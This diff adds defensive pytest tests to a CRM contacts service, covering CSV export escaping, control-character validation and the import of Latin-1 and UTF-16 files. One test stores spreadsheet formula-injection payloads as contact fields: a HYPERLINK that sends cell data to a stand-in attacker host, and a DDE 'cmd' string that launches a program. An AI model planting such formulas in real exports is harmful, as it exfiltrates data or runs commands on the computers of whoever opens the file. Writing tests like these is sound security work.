@@ -4,11 +4,14 @@ numbers, companies, status changes, the CRM admin lists and bulk selections, thr
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import AsyncIterator, Sequence
 from dataclasses import dataclass
 from typing import Any
 
 import pytest
+from pydantic import ValidationError
 
 from crm_contacts.copies import ContactCopies
 from crm_contacts.importing.pipeline import Importer
@@ -65,6 +68,13 @@ class Contacts:
         progress = await importer.run(_chunks("\n".join(lines) + "\n"))
         return progress.created, progress.errors
 
+    async def import_bytes(
+        self, data: bytes, charset: str | None = None
+    ) -> tuple[int, list[tuple[int, str]]]:
+        importer = Importer(self.db, self.outbox, self.copies, batch_size=100)
+        progress = await importer.run(_bytes(data), charset=charset)
+        return progress.created, progress.errors
+
     async def allow(self, **lists: list[Any]) -> None:
         """The CRM admin lists as the campaigns service would announce them."""
         announced = CrmSettingsChanged(opportunity_statuses=[], version=1, **lists)
@@ -73,6 +83,11 @@ class Contacts:
 
 async def _chunks(text: str) -> AsyncIterator[bytes]:
     yield text.encode()
+
+
+async def _bytes(data: bytes) -> AsyncIterator[bytes]:
+    for start in range(0, len(data), 1 << 16):
+        yield data[start : start + (1 << 16)]
 
 
 @pytest.fixture
@@ -351,3 +366,92 @@ async def test_a_resolved_selection_streams_its_contacts_and_their_count(
 
 def ids(lines: Sequence[bytes]) -> list[str]:
     return [line.split(b'"id":"', 1)[1].split(b'"', 1)[0].decode() for line in lines]
+
+
+# --- what a fuzzer and a careful tester found (issue 19) --------------------------------
+
+
+async def test_the_export_escapes_cells_a_spreadsheet_would_run_as_formulas(
+    contacts: Contacts,
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
+    await contacts.create(
+        kind="person",
+        name=formula,
+        phone="+49 30 1234567",
+        crm={"comment1": "-2+3+cmd|' /C calc'!A0", "comment2": "@SUM(A1:A9)"},
+    )
+    await contacts.create(kind="person", name="Anna", crm={"employees": 12})
+    stream = await contacts.run("export_csv", ContactFilter(), contacts.db)
+    text = "".join([piece async for piece in stream])
+    header, *rows = csv.reader(io.StringIO(text))
+    by_name = {row[header.index("name")]: dict(zip(header, row, strict=True)) for row in rows}
+    evil = by_name["'" + formula]
+    assert evil["phone"] == "'+49 30 1234567"
+    assert evil["crm.comment2"] == "'@SUM(A1:A9)"
+    assert evil["crm.comment1"] == "'-2+3+cmd|' /C calc'!A0"
+    assert by_name["Anna"]["crm.employees"] == "12"  # everything else as it was
+
+
+async def test_null_for_a_required_field_of_a_contact_is_refused_naming_it() -> None:
+    for name in ("name", "kind", "language", "credit_hold"):
+        with pytest.raises(ValidationError) as refused:
+            ContactUpdate.model_validate({name: None})
+        assert [e["loc"] for e in refused.value.errors()] == [(name,)]
+    cleared = ContactUpdate.model_validate({"email": None, "phone": None, "address": None})
+    assert cleared.model_dump(exclude_unset=True) == {"email": None, "phone": None, "address": None}
+
+
+async def test_control_characters_in_what_people_type_are_refused(contacts: Contacts) -> None:
+    for fields in (
+        {"name": "Anna\x00"},
+        {"name": "Anna\nBerta"},
+        {"phone": "030\x1b[2J"},
+        {"crm": {"comment1": "gut\x07"}},
+        {"address": {"city": "Kö\u0085ln"}},
+    ):
+        with pytest.raises(ValidationError) as refused:
+            ContactCreate.model_validate({"kind": "person", "name": "Anna", **fields})
+        assert refused.value.errors()[0]["type"] == "string_pattern_mismatch", fields
+    created, errors = await contacts.import_csv(
+        "kind,name,phone", "person,Anna\x00,", "person,Berta,030\x7f", "person,Carla,"
+    )
+    assert created == 1
+    assert errors == [
+        (2, "name: must be one line without control characters"),
+        (3, "phone: must be one line without control characters"),
+    ]
+    ok = ContactCreate.model_validate(
+        {"kind": "person", "name": " Jörg Müller-Lüdenscheidt 👍\n", "crm": {"comment1": "a\tb\nc"}}
+    )
+    assert (ok.name, ok.crm.comment1) == ("Jörg Müller-Lüdenscheidt 👍", "a\tb\nc")
+
+
+async def test_an_import_from_excel_in_a_german_office_keeps_its_umlauts(
+    contacts: Contacts,
+) -> None:
+    latin = "kind,name,crm.comment1\r\nperson,Jörg Müller,Grüße\r\n".encode("cp1252")
+    assert await contacts.import_bytes(latin) == (1, [])
+    assert await contacts.import_bytes(latin, "iso-8859-1") == (1, [])
+    wide = "kind,name\r\nperson,Anna Weiß\r\n".encode("utf-16")
+    assert await contacts.import_bytes(wide) == (1, [])
+    page = await contacts.run("page", ContactFilter(), None, 10)
+    assert sorted(c.name for c in page.items) == ["Anna Weiß", "Jörg Müller", "Jörg Müller"]
+    assert {c.crm.get("comment1") for c in page.items} == {"Grüße", None}
+
+
+async def test_a_cell_over_128_kib_is_a_row_error(contacts: Contacts) -> None:
+    data = f"kind,name\nperson,Anna\nperson,{'x' * 200_000}\nperson,Berta\n".encode()
+    created, errors = await contacts.import_bytes(data)
+    assert created == 2
+    assert errors == [(3, "name: String should have at most 300 characters")]
+
+
+async def test_an_escaped_formula_from_an_export_imports_as_it_was(contacts: Contacts) -> None:
+    created, errors = await contacts.import_csv("kind,name,phone", "person,'=1+2,'+49 30 1")
+    assert (created, errors) == (1, [])
+    stream = await contacts.run("export_csv", ContactFilter(), contacts.db)
+    [row] = list(csv.DictReader(io.StringIO("".join([piece async for piece in stream]))))
+    assert (row["name"], row["phone"]) == ("'=1+2", "'+49 30 1")  # escaped again
+    [contact] = (await contacts.run("page", ContactFilter(), None, 10)).items
+    assert (contact.name, contact.phone) == ("=1+2", "+49 30 1")
